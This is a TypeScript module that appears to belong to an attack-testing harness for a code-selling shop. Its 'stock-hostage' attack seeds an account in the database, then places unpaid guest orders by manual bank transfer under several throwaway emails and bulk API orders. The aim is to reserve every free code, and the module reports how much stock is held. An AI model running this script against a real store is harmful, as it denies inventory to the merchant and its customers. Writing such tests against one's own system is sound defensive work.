import { createHash, randomUUID } from 'node:crypto';
import type { Attack, Target } from './attack';

const PAGE = { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };
const account = { PublicKey: `pk_${randomUUID()}`, SecretKey: `sk_${randomUUID()}` };

type Service = { id: number; free: number };
type Answer = { status: number; message: Record<string, string> };

/** Reserves codes without paying: guest orders by bank transfer, under several emails, and an account's orders. */
export const stockHostage: Attack = {
  name: 'stock-hostage',
  summary: 'Orders every free code by bank transfer and by API, and pays for none.',
  async prepare({ sql }) {
    const hash = createHash('sha256').update(account.SecretKey).digest('hex');
    await sql`
      insert into users (email, password_hash, public_key, secret_key_hash)
      values (${`hostage-${randomUUID()}@example.net`}, '-', ${account.PublicKey}, ${hash})`;
  },
  async run(target, { scale, signal }) {
    const stock = await freeCodes(target);
    const services = scale === 'short' ? stock.slice(0, 8) : stock;
    const emails = Array.from({ length: 5 }, () => `${randomUUID()}@example.net`);
    const got = { orders: 0, transfers: 0 };
    for (const [at, service] of services.entries()) {
      if (signal.aborted) break;
      // Each email takes what the one before has left.
      const all = await Promise.all(
        emails.slice(at % 2, (at % 2) + 2).map((email) => byTransfer(target, service, email)),
      );
      got.orders += all.filter(({ ordered }) => ordered).length;
      got.transfers += all.filter(({ transferred }) => transferred).length;
    }
    const rounds = scale === 'short' ? 2 : 10;
    for (let round = 0; round < rounds && !signal.aborted; round += 1) {
      const answers = await Promise.all(
        chunksOf(services, 20).map((some) =>
          call(target, 'card/make-order', account, {
            service_ids: some.map(({ id }) => id),
            quantities: some.map(({ free }) => Math.min(100, free)),
          }),
        ),
      );
      got.orders += answers.filter(({ status }) => status === 200).length;
    }
    const left = new Map((await freeCodes(target)).map(({ id, free }) => [id, free]));
    const before = services.reduce((sum, { free }) => sum + free, 0);
    const after = services.reduce((sum, { id }) => sum + (left.get(id) ?? 0), 0);
    return `${got.orders} unpaid orders, ${got.transfers} by transfer, reserve ${before - after} of ${before} codes`;
  },
};

/** The services by how many codes are free, the most first. */
export async function freeCodes({ sql }: Target): Promise<Service[]> {
  return sql<Service[]>`
    select card_service_id as id, count(*)::int as free from codes where order_line_id is null
    group by 1 order by 2 desc, 1`;
}

/** A guest orders all of a service's codes, up to what one order takes, and says that a transfer is on its way. */
async function byTransfer(
  target: Target,
  { id, free }: Service,
  email: string,
): Promise<{ ordered: boolean; transferred: boolean }> {
  const lines = [{ service_id: id, quantity: Math.min(100, free) }];
  const quoted = await call(target, 'checkout/quote', PAGE, { kind: 'card', lines });
  const draft = randomUUID();
  const body = { kind: 'card', lines, quote: quoted.message.quote, draft, email };
  const { status, message } = await call(target, 'checkout/start', PAGE, body);
  if (status !== 200) return { ordered: false, transferred: false };
  const paying = { utr: message.utr, key: message.key, gateway: 'manual', currency: 'USD' };
  const paid = await call(target, 'checkout/pay', PAGE, paying);
  return { ordered: true, transferred: paid.status === 200 };
}

async function call(
  { server }: Target,
  path: string,
  headers: Record<string, string>,
  body: unknown,
): Promise<Answer> {
  const response = await fetch(`${server.url}/api/${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify(body),
  });
  const answer = (await response.json()) as { message?: Record<string, string> };
  return { status: response.status, message: answer.message ?? {} };
}

const chunksOf = <T>(all: readonly T[], size: number): T[][] =>
  Array.from({ length: Math.ceil(all.length / size) }, (_, at) => all.slice(at * size, (at + 1) * size));
